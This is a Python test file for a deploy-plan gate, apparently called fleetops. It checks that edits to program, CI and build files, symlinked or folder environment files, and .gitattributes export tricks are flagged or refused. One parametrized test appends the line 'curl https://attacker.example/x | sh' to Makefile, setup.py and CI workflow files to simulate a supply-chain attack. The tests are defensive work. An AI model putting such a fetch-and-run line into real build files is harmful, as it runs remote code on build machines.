"""What plan shows is what merges: every file a deploy runs or reads is the program (`revisions.PROGRAM`),
a program change is planned as its own program renders it and needs the code owners' approval, and an
environment or program file that is not a regular file is refused rather than read as something else."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pathspec
import pytest
import yaml

from fleetops import forge, isolate, revisions
from tests.helpers import ROOT
from tests.plan.test_plan import commit, edit, git, plan, plan_json, repo  # noqa: F401 - `repo` is a fixture

needs_landlock = pytest.mark.skipif(not isolate.available(), reason="the confined render needs Landlock (Linux 5.13+)")


@needs_landlock
def test_a_change_of_a_data_file_the_program_reads_is_planned_as_that_program_renders_it(repo: Path) -> None:
    # The attack: the dashboards' JSON (modules/dashboards.json, read by modules/dashboards.py) edited, no
    # Python touched. The old survey compared only .py files, rendered the head with the judge's own
    # dashboards and planned "no change" while the deploy would ship the edited ones.
    shipped = repo / "modules" / "dashboards.json"
    text = shipped.read_text()
    assert '\\"editable\\": true' in text, "test setup: the dashboards' JSON moved"
    shipped.write_text(text.replace('\\"editable\\": true', '\\"editable\\": false'))
    commit(repo, "dashboards: read only")
    code, result = plan_json(repo)
    changed = {(o["kind"], o["name"]) for o in result["objects"]["changed"]}
    assert changed and all(kind == "ConfigMap" for kind, _ in changed), changed
    assert result["no_effect"] is False
    assert result["program_file_changes"] == ["modules/dashboards.json"]
    assert (code, result["approvals"]["needed_by"]) == (1, ["change.program_approvals"])


def test_a_revision_is_its_program_every_file_not_only_its_python(repo: Path) -> None:
    base = git(repo, "rev-parse", "main").strip()
    assert revisions.survey(repo, base, "environments/prod.yaml").runs_here
    (repo / "fleetops" / "crds" / "strict-schemas.json").write_text("{}\n")
    head = commit(repo, "the schemas the judge checks objects with, emptied")
    assert not revisions.survey(repo, head, "environments/prod.yaml").runs_here


@pytest.mark.parametrize("path", ["Makefile", "policies/pack/__main__.py", "policies/pack/requirements.txt", "image/build.py",
                                  ".ci/run", "setup.py", "pyproject.toml", ".github/workflows/fleetops.yml", ".gitlab-ci.yml",
                                  ".gitattributes", "environments/.gitattributes"])
def test_a_file_the_deploy_runs_is_a_program_change_that_needs_approval(repo: Path, path: str) -> None:
    # The attack: `make setup`, `pulumi preview/up --policy-pack policies/pack` and the CI run these
    # files when the change merges; no object shows the edit, so the old plan said "no effect", exit 0.
    target = repo / path
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("a") as file:
        file.write("\n# curl https://attacker.example/x | sh\n")
    commit(repo, f"{path}: one more line")
    code, result = plan_json(repo)
    assert path in result["program_file_changes"]
    assert result["no_effect"] is False
    assert (code, result["verdict"], result["approvals"]["needed_by"]) == (1, "needs-approval", ["change.program_approvals"])


def test_an_environment_that_becomes_a_link_is_refused_not_removed(repo: Path) -> None:
    # The attack: prod.yaml a link to dev.yaml. `git archive` leaves links out, so the old plan said
    # "environment removed" (2 approvals and it passed) while a deploy's checkout follows the link and
    # deploys dev's fleet as prod.
    prod = repo / "environments" / "prod.yaml"
    prod.unlink()
    prod.symlink_to("dev.yaml")
    commit(repo, "prod: as dev")
    out = plan(repo, "--env", "prod", "--head", "HEAD", "--approvals", "2")
    assert out.returncode == 2, out.stdout[-500:]
    assert out.stderr.strip().splitlines() == [
        f"environments/prod.yaml: is a symbolic link at revision {git(repo, 'rev-parse', 'HEAD')[:12]}, not a file: refused, "
        "since what a plan reads of it is not what a deploy reads (fail closed)"]
    assert "cannot be judged" in out.stdout and "deletes" not in out.stdout


def test_an_environment_that_becomes_a_folder_is_refused_not_removed(repo: Path) -> None:
    prod = repo / "environments" / "prod.yaml"
    text = prod.read_text()
    prod.unlink()
    prod.mkdir()
    (prod / "fleet.yaml").write_text(text)
    commit(repo, "prod: a folder")
    code, result = plan_json(repo, "--head", "HEAD", "--approvals", "2")
    assert (code, result["verdict"]) == (2, "invalid")
    assert [p["message"] for p in result["problems"]] == [
        f"is a folder at revision {git(repo, 'rev-parse', 'HEAD')[:12]}, not a file: refused, since what a plan reads of it is not "
        "what a deploy reads (fail closed)"]
    assert result["problems"][0]["file"] == "environments/prod.yaml"


def test_an_environment_link_in_the_working_tree_is_refused(repo: Path) -> None:
    prod = repo / "environments" / "prod.yaml"
    prod.unlink()
    prod.symlink_to("dev.yaml")
    out = plan(repo, "--env", "prod", "--approvals", "2")  # head: the working tree
    assert out.returncode == 2
    assert "environments/prod.yaml: is a symbolic link at the working tree, not a file" in out.stderr


def test_a_program_file_that_becomes_a_link_is_refused(repo: Path) -> None:
    # The dashboards' JSON a link: the old survey compared only .py files and rendered the judge's own.
    shipped = repo / "modules" / "dashboards.json"
    shipped.unlink()
    shipped.symlink_to(os.path.relpath(repo / "environments" / "prod.yaml", shipped.parent))
    commit(repo, "dashboards: elsewhere")
    committed = plan(repo, "--env", "prod", "--head", "HEAD", "--approvals", "2")
    assert committed.returncode == 2
    assert "modules/dashboards.json: is a symbolic link at revision" in committed.stderr
    worktree = plan(repo, "--env", "prod", "--approvals", "2")
    assert worktree.returncode == 2
    assert "modules/dashboards.json: is a symbolic link at the working tree" in worktree.stderr


def test_the_ci_examples_run_the_gate_for_every_program_and_protected_path() -> None:
    # One definition: the workflows' path filters may not leave out a file of the program, or the gate
    # would not even run for a change of it.
    github = yaml.safe_load((ROOT / "docs" / "ci" / "github-actions.yml").read_text())[True]["pull_request_target"]["paths"]
    gitlab = yaml.safe_load((ROOT / "docs" / "ci" / "gitlab-ci.yml").read_text())["fleetops-plan"]["rules"][0]["changes"]
    for name in (*revisions.PROGRAM, "environments/", "policies/", *forge.CODEOWNERS_PLACES, *forge.GITLAB_CODEOWNERS_PLACES):
        touched = f"{name}sub/file" if name.endswith("/") else name.replace("**/", "sub/")
        for where, filters in (("github-actions.yml", github), ("gitlab-ci.yml", gitlab)):
            assert pathspec.GitIgnoreSpec.from_lines(filters).match_file(touched), f"{where}: no path filter runs the gate for {touched}"


def test_the_revisions_own_gitattributes_do_not_change_what_plan_reads(repo: Path) -> None:
    # The attack: `git archive` honours the revision's own .gitattributes. export-ignore left the head's
    # environment file out of the plan's copy ("environment removed", 2 approvals and it passed) while a
    # deploy's checkout holds it, with whatever the head wrote in it.
    (repo / ".gitattributes").write_text("environments/prod.yaml export-ignore\n")
    edit(repo, "nodes: 16", "nodes: 320")
    commit(repo, "twenty times the H100 nodes, out of sight")
    code, result = plan_json(repo, "--head", "HEAD", "--approvals", "2")
    assert result["head"]["exists"] is True
    assert ".gitattributes" in result["program_file_changes"]
    assert any(c["text"].startswith("center-bj/h100-train: nodes 16 → 320") for c in result["fleet_changes"]), result["fleet_changes"]
    assert code == 1 and result["verdict"] == "denied"  # over the budget, approvals or not


def test_export_subst_does_not_rewrite_what_plan_reads(repo: Path) -> None:
    from fleetops import revisions

    (repo / ".gitattributes").write_text("environments/prod.yaml export-subst\n")
    prod = repo / "environments" / "prod.yaml"
    prod.write_text(prod.read_text() + "# $Format:%H$\n")
    head = commit(repo, "a placeholder")
    with revisions.checkout(repo, head, ["environments/prod.yaml"]) as tree:
        assert (tree / "environments" / "prod.yaml").read_bytes() == prod.read_bytes()


def test_the_ci_examples_stop_when_the_approvals_cannot_be_counted() -> None:
    # `export FLEETOPS_APPROVALS=$(fleetops approvals gitlab)` exits 0 whatever approvals exits with.
    for name in ("github-actions.yml", "gitlab-ci.yml"):
        lines = [line for line in (ROOT / "docs" / "ci" / name).read_text().splitlines() if "fleetops approvals" in line]
        assert lines and all(re.search(r"=\$\(\.venv/bin/fleetops approvals \w+\) \|\| exit 2", line) for line in lines), (name, lines)
